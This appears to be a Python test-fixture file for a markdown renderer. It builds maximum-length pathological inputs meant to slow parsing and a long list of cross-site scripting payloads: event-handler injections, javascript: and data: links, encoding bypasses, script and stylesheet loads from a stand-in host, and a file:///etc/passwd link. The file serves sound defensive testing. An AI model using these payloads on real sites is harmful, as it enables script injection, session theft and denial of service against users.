# ruff: noqa: E501 (vectors stay whole)
"""Texts that do their worst: to the time of what reads them, to its memory, to its readers.

`SLOW` fill a post to its last character; `XSS` are written after the kinds that OWASP's cheat
sheets list; `POSTS` are all of them.
"""

from app.core.markdown import MAX_POST


def _filled(piece: str, *, before: str = "", after: str = "") -> str:
    """Return `piece` repeated until a post is full."""
    room = MAX_POST - len(before) - len(after)
    return before + (piece * (room // len(piece) + 1))[:room] + after


def _growing(sign: str, between: str = " ") -> str:
    """Return rows of a sign, each one longer than the one before."""
    return between.join(sign * length for length in range(1, 220))[:MAX_POST]


_REPEATED = (
    "a", "å", " ", "\n", "\t", "\\", "\\\n", "&", "&amp;", "&#1;", "&#x10ffff;", "&notanentity;", "<",
    ">", "> ", ">", "> > ", "- ", "-", "* ", "* * ", "+ - * ", "1. ", "1) ", "# ", "#", "###### a\n",
    "*", "**", "*a", "*a ", " *a", "a*", "**a *", "*a **b ", "_", "_a_", "a_", "*a_", "*a_ ", "***a",
    "a**b", "~", "~~a~~", "~~~\n", "`", "``` \n", "`a", "`a``", "[", "]", "](", "[]", "[](", "[a](",
    "[a](b", "[a](<", "[a](b)", "[a](b \"", "[a](b 'c')", "[[a]]", "[a][", "[a][b", "[a][a]", "![",
    "![a](", "![[a](b)](c)", "[![a](b)](c)", "[a]: b\n", "[a]: <", "[a]:\n", "[a", "\\[", "\\]", "|",
    "a|", "|-", "|a\n|-\n", "-|-\n", ":-:|", "a|b\n-|-\n", "||||\n", "<a", "<a ", "<a b", "<a b=",
    "<a b=\"", "<a>", "</a>", "<!--", "<!-", "-->", "<?", "<![CDATA[", "<!A", "<b>", "<b\n", "<x:",
    "<http://a.example>", "<a@a.example>", "<a:", "http://", "https://a.example ", "https://",
    "https://a.example/(", "https://a.example/?a=(b)", "www.", "www.a.example ", "a@", "a@b.fi ",
    "a.", "a.b@", "//", "://", "h", "ht", "https:/", "a@b.", "-@", ".@", "a@b-", "\u200d", "\u0301",
    "\u202e", "👍", "🏽", "\x00", "\ufffd", "\ud800", "\u3000", "\xa0", "-\n", "=\n", "a\n=\n", "---\n",
    "a\n", "a\n\n", "a  \n", "    a\n", "\ta\n", "> a\n", "- a\n", "  - a\n", "> - ", "- > ", "1. > ",
    ">- a\n", "* a\n> ", "- ```\n", "> ```\n", "    > ", "-\t", "- - -\n", "''", '"', "(", ")", "((",
    "<style>", "<script>", "<svg>", "<math>", "<table>", "<select>", "<p>", "{{", "{%", "${", "%",
    "%%", "0", "040 ", "0401234567 ", "04", "0 ", "(0", "+358 ", "+", "00", "0-", "1-", "0/", "0\xa0",
    "4111 1111 1111 1111 ", "4", "4 ", "FI", "FI21 ", "FI2112345600000785 ", "A1", "AA00 ", "131052-308T ",
    "010101", "010101-", "0101011", "19900101-", "1.1.1", "@", "a(at)b.fi ", "a (at) ", "[at]", "x@y",
    "+x@", "%a", "-a", "\u2010", "0\u2010", "١", "０", "①", "²", "&#48;", "&#x30;", "&#48", "&amp;#48;",
    "&amp;amp;", "<a href=\"tel:", "<a href='0401234567'>", "0<b>4</b>", "<0>", "0<", "0<!", "0<!-->",
    "29 0000101 ", "0290000101", "290000101", "2900001012", "0290000", "+358290000", "00358290000",
    "358", "3580", "003580", "2%39", "%2539", "<a href=\"%32%39\">", "&#0000000000000000000050;",
)

SLOW = [
    *(_filled(piece) for piece in _REPEATED),
    *(_growing(sign) for sign in "`*_~[]<>&|-=#>+(!\\"),
    *(_growing(sign, "\n") for sign in "`~#-=> |"), _growing("`", "a"), _growing("*", "a"),
    _growing("> ", "a\n"), _growing("- ", "a\n"), _growing("  ", "- a\n"), _growing("1. ", "a\n"),
    "".join(f"{' ' * depth}- a\n" for depth in range(195))[:MAX_POST],
    "".join(f"{'  ' * depth}* a\n" for depth in range(138))[:MAX_POST],
    "".join(f"{'> ' * depth}a\n" for depth in range(138))[:MAX_POST],
    "".join(f"{'> ' * (138 - depth)}a\n" for depth in range(138))[:MAX_POST],
    "".join(f"[{n}]: /{n}\n" for n in range(2_000))[:MAX_POST],
    ("".join(f"[{n}]: /{n}\n" for n in range(800)) + "".join(f"[{n}]" for n in range(3_000)))[
        :MAX_POST],
    _filled("[a]", before=f"[a]: /{'b' * 9_000}\n\n"),  # each of 3,600 links to 9,000 characters
    _filled("![a]", before=f"[a]: /{'b' * 9_000}\n\n"),
    _filled("[a][]", before=f"[a]: /{'b' * 100} '{'c' * 9_000}'\n\n"),
    _filled("[A]", before=f"[a]: https://a.example/{'&' * 9_000}\n\n"),
    _filled("|\n", before=f"{'a|' * 4_000}\n{'-|' * 4_000}\n"),
    _filled("|\n", before=f"{'|' * 3_000}\n{'-|' * 3_000}\n"),
    _filled("a\n", before=f"{'a|' * 1_000}\n{'-|' * 1_000}\n"),
    _filled("|a\n", before="|a\n|-\n"), _filled("a|b|c\n", before="a|b|c\n-|-|-\n"),
    _filled("\\|", before="|a|b|\n|-|-|\n"), _filled("`|", before="|a|b|\n|-|-|\n"),
    _filled("*a ", after="*" * 9_000), _filled("*", before="a" * 9_000, after="b" * 9_000),
    _filled("a", before="[", after="](https://a.example)"), _filled("a", before="<https://", after=">"),
    _filled("(", before="[a](", after=")"), _filled("()", before="[a](", after=")"),
    _filled("[", after="]" * 9_999), _filled("![", after="](a)" * 4_000),
    _filled("[a](", after=")" * 9_999), _filled("(", before="https://a.example/", after=")" * 9_000),
    _filled(".", before="https://a.example/"), _filled("a.", before="https://"),
    _filled("a" * 63 + ".", before="https://"), _filled("a" * 63 + ".", before="a@"),
    _filled("-", before="https://a"), _filled("a", after="@"), _filled("a", after="@b"),
    _filled("a.", after="@b.fi"), _filled("1", before="+"), _filled(" 1", before="0"),
    _filled("```\n", before="~~~\n"), _filled("&lt;", before="```\n"), _filled("<", before="    "),
    _filled("- [a](b)\n  > ", before="1. "), _filled("\n> \n", before="> a"), _filled(" \n", before="- a"),
    _filled("\n\n  a", before="- a"), _filled("a ", before="#" * 6), _filled("0" * 999 + " "),
    _filled("9" * 19 + " "), _filled("9" * 8 + "\n"), _filled("1" * 9 + ". a\n"),
    "\n".join(f"{n}. a" for n in range(1, 2_900))[:MAX_POST],
    "\n\n".join(f"{n}) a" for n in range(1, 2_300))[:MAX_POST],
    "\n".join("- a" if n % 2 else "* a" for n in range(5_000)),
    "\n".join("- a" if n % 2 else "1. a" for n in range(4_400)),
]

XSS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "\"><script>alert(1)</script>", "'-alert(1)-'",
    "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\"", "<IMG \"\"\"><script>alert(1)</script>\">",
    "<img src=`javascript:alert(1)`>", "<img/src/onerror=alert(1)>", "<img src=x:x onerror\n=alert(1)>",
    "<img src='java\tscript:alert(1)'>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>a",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">a</math>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<div style=\"width:expression(alert(1))\">",
    "<div style='background:url(//evil.example)'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>a", "<button formaction=javascript:alert(1)>a",
    "<isindex action=javascript:alert(1)>", "<a href=javascript:alert(1)>a</a>",
    "<a href=\"&#106;avascript:alert(1)\">a</a>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<xss onclick=alert(1)>a", "<x contenteditable onblur=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml <img src=x onerror=alert(1)>?>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "\xbcscript\xbealert(1)\xbc/script\xbe", "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "\\<script\\>alert(1)\\</script\\>", "`<script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```",
    "``` \"><script>alert(1)</script>\ncode\n```", "```x onmouseover=alert(1)\ncode\n```", "    </pre><script>alert(1)</script>",
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](javascript&colon;alert(1))",
    "[a](java&Tab;script:alert(1))", "[a](java&NewLine;script:alert(1))", "[a](&#x6a;avascript:alert(1))",
    "[a](&#0000106avascript:alert(1))", "[a](&#1;javascript:alert(1))", "[a](\x01javascript:alert(1))",
    "[a](<javascript:alert(1)>)", "[a]( javascript:alert(1))", "[a](<\njavascript:alert(1)>)",
    "[a](jav%0aascript:alert(1))", "[a](%6aavascript:alert(1))", "[a](javascript://a.example/%0aalert(1))",
    "[a](vbscript:msgbox(1))", "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](file:///etc/passwd)", "[a](blob:https://a.example/x)", "[a](//evil.example)", "[a](/\\evil.example)",
    "[a](\\\\evil.example)", "[a](mailto:a@b.fi?subject=x)", "[a](tel:+358290000101)", "[a](https:javascript:alert(1))",
    "[a](https://a.example \"onmouseover=alert(1)\")", "[a](https://a.example '\" onmouseover=\"alert(1)')",
    "[a](https://a.example\" onmouseover=\"alert(1))", "[a](https://a.example/\"><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://a.example)", "[a]: javascript:alert(1)\n\n[a]", "[a]: <javascript:alert(1)>\n\n[a][]",
    "[a]: https://a.example '\" onclick=\"alert(1)'\n\n[a]", "![a](javascript:alert(1))", "![a](https://evil.example/x.png)",
    "![\" onerror=\"alert(1)](x)", "![a](x \" onerror=alert(1) \")", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>",
    "<data:text/html,alert(1)>", "<https://a.example/\"onmouseover=alert(1)>", "<https://a.example/'><script>alert(1)</script>",
    "https://a.example/\"onmouseover=\"alert(1)", "https://a.example/<script>alert(1)</script>",
    "https://a.example/'onclick='alert(1)", "https://a.example/&quot;onclick=alert(1)", "javascript:alert(1)",
    "javascript://https://a.example", "https://a.example@evil.example/", "https://evil.example\u202e/elpmaxe.a",
    "https://ａ.example/", "https://a.example:99999/", "https://[::1]/", "https://localhost/", "https://127.0.0.1/",
    "|a|<script>alert(1)</script>|\n|-|-|\n|<img src=x onerror=alert(1)>|b|", "|a|\n|:-:\" onclick=\"alert(1)|\n|b|",
    "1\" onclick=\"alert(1). a", "# <script>alert(1)</script> {onclick=alert(1)}", "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>", "**<script>alert(1)</script>**", "*a<img src=x onerror=*alert(1)*>*",
    "<a href=\"[a](https://a.example)\">", "[a](<a href='javascript:alert(1)'>)", "<a title=\"[\"](javascript:alert(1))",
    "{{ 7 * 7 }}{% raw %}", "${alert(1)}", "%3Cscript%3Ealert(1)%3C/script%3E", "\u2028alert(1)\u2029",
    "<div hx-get=/fi/ hx-trigger=load>a</div>", "<p data-hx-on:load=alert(1)>", "<form method=post action=/fi/sign-out><button>",
    "<div id=main class=error-summary>", "<input name=ticket value=x>", "<img src=/staff/ width=9999 height=9999>",
]

POSTS = [*SLOW, *XSS]
